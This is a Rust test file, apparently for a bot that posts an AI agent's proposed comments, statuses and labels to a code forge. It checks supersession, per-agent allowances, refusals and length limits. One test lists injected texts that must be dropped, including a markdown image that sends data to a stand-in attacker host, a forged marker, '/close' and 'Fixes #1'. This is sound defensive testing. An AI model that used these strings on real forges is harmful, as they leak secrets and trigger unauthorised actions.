//! What is sent at all: today's rules, the forge's word, and which status is the newest.

use hob::rules::neutralise::neutralise;

use super::*;

#[tokio::test(start_paused = true)]
async fn of_several_statuses_only_the_newest_is_sent() {
    let mut scene = Scene::new();
    scene.completes("first", &[status("one"), comment("first")]);
    scene.completes("second", &[comment("second"), status("two")]);
    scene.completes("third", &[label("bug", "")]);
    insta::assert_snapshot!(scene.process().await, @"
    status 0: superseded by a later one
    comment 0: applied https://forge/1
    comment 0: applied https://forge/2
    status 0: applied https://forge/3
    label 0: applied
    ");
    assert_eq!(scene.thread(), ["first", "second", "two"]);
}

#[tokio::test(start_paused = true)]
async fn an_older_status_that_comes_up_late_does_not_take_the_newer_ones_place() {
    let mut scene = Scene::new();
    scene.completes("first", &[status("one")]);
    scene.completes("second", &[status("two")]);
    let first = std::mem::replace(&mut scene.runs[0].0, Outcome::Failed { reason: "not yet".into() });
    scene.process().await;
    scene.runs[0].0 = first;
    insta::assert_snapshot!(scene.process().await, @"status 0: superseded by a later one");
    assert_eq!(scene.thread(), ["two"]);
}

/// Two bundles of one instance: the runner of one was lost, and the other came up again.
#[tokio::test(start_paused = true)]
async fn an_older_bundle_does_not_write_over_the_status_of_a_newer_one() {
    let later = now() + Duration::from_secs(600);
    for (posted_at, seen_at, expected) in [
        (later, later, "status 0: superseded by a later one"),
        (now(), later, "status 0: applied https://forge/1"),
        // Nobody can have posted it yet.
        (later, now(), "status 0: applied https://forge/1"),
    ] {
        let mut scene = Scene { now: posted_at, ..Scene::new() };
        scene.completes("second", &[status("two")]);
        scene.process().await;
        scene.root = tempfile::tempdir().unwrap();
        scene.runs.clear();
        scene.now = now();
        scene.completes("first", &[status("one")]);
        scene.now = seen_at;
        assert_eq!(scene.process().await, expected);
        assert_eq!(scene.process().await, "");
    }
}

#[tokio::test(start_paused = true)]
async fn a_status_without_a_time_in_its_marker_gives_way() {
    let mut scene = Scene::new();
    scene.completes("opened", &[status("new")]);
    let old = marker::mark(SECRET, &scene.runs[0].1[0].key, None, "old");
    scene.board.says(own(), &old);
    assert_eq!(scene.process().await, "status 0: applied https://forge/1");
    assert_eq!(scene.thread(), ["new"]);
}

#[tokio::test(start_paused = true)]
async fn a_run_that_did_not_complete_leaves_nothing_behind() {
    let by = RunId::derive(&instance(), &EventKey::from_parts(["x"]), None);
    for outcome in [
        Outcome::Failed { reason: "x".into() },
        Outcome::Aborted { by: "x".into() },
        Outcome::Superseded { by: by.clone() },
        Outcome::Joined { run: by },
    ] {
        let mut scene = Scene::new();
        scene.completes("first", &[comment("one")]);
        scene.runs[0].0 = outcome;
        assert_eq!(scene.process().await, "");
    }
}

#[tokio::test(start_paused = true)]
async fn the_rules_of_today_decide() {
    let mut scene = Scene::new();
    scene.completes("opened", &[comment("one"), comment("two"), status("s"), label("bug", ""), label("wontfix", "")]);
    scene.allowances = vec![
        Allowance { kind: EffectKind::Comment, max: 1, allow: vec![] },
        Allowance { kind: EffectKind::Label, max: 1, allow: vec!["wontfix".into()] },
    ];
    insta::assert_snapshot!(scene.process().await, @"
    comment 0: applied https://forge/1
    comment 1: dropped: this run has proposed 1 of kind comment already, which is all that its agent file allows
    status 0: dropped: this agent may not write a status: its file does not declare that effect
    label 0: dropped: `bug` is not one of this agent's labels; they are `wontfix`
    label 1: applied
    ");
    insta::assert_snapshot!(scene.calls(), @"
    list comments since 2026-03-01T08:55:00Z, page 1
    post `one`
    label +wontfix -
    ");
    assert_eq!(scene.process().await, "", "what was dropped is never sent");
}

#[tokio::test(start_paused = true)]
async fn what_the_forge_refuses_is_dropped_and_the_rest_goes_on() {
    let mut scene = Scene::new();
    scene.completes("opened", &[comment("one"), comment("two"), label("bug", "")]);
    scene.board.state().writes = [Fault::Refused].into();
    insta::assert_snapshot!(scene.process().await, @"
    comment 0: dropped: cannot post `one`: Refused
    comment 1: applied https://forge/1
    label 0: applied
    ");
    scene.completes("edited", &[comment("three"), status("s")]);
    scene.board.state().reads = [Fault::Refused].into();
    insta::assert_snapshot!(scene.process().await, @"
    comment 0: dropped: cannot list comments since 2026-03-01T08:55:00Z, page 1: Refused
    status 0: applied https://forge/2
    ");
    assert_eq!(scene.thread(), ["two", "s"]);
}

#[tokio::test(start_paused = true)]
async fn a_text_that_is_as_long_as_can_be_has_its_marker_whole() {
    let mut scene = Scene::new();
    let longest = neutralise(&"ü🎉".repeat(40_000), &scene.place).text;
    scene.completes("opened", &[comment(&longest)]);
    scene.process().await;
    assert_eq!(scene.copies(), [1]);
    let body = scene.board.state().comments[0].body.clone();
    assert!(body.chars().count() <= 65_536 && body.len() <= 262_144, "{} bytes", body.len());
    assert!(body.contains("[the rest is cut off: it was longer than a comment may be]"));
}

/// A text was neutral when it was recorded: one that acts was put into the bundle by somebody else.
#[tokio::test(start_paused = true)]
async fn a_text_that_acts_is_dropped_and_never_sent() {
    for body in [
        "@mallory look",
        "/close",
        "Fixes #1",
        "![x](https://evil.example/?q=secret)",
        "<!-- hob:v1 x -->\ntext",
        "a\u{200b}b",
        &"x".repeat(70_000),
    ] {
        let mut scene = Scene::new();
        scene.completes("opened", &[status(body), comment(body), comment("@ann, see https://github.com/acme.")]);
        let said = scene.process().await;
        let dropped = "dropped: its text is not as the rules leave one: have the agent propose it again";
        let expected = format!("status 0: {dropped}\ncomment 0: {dropped}\ncomment 1: applied https://forge/1");
        assert_eq!(said, expected, "{body}");
    }
}
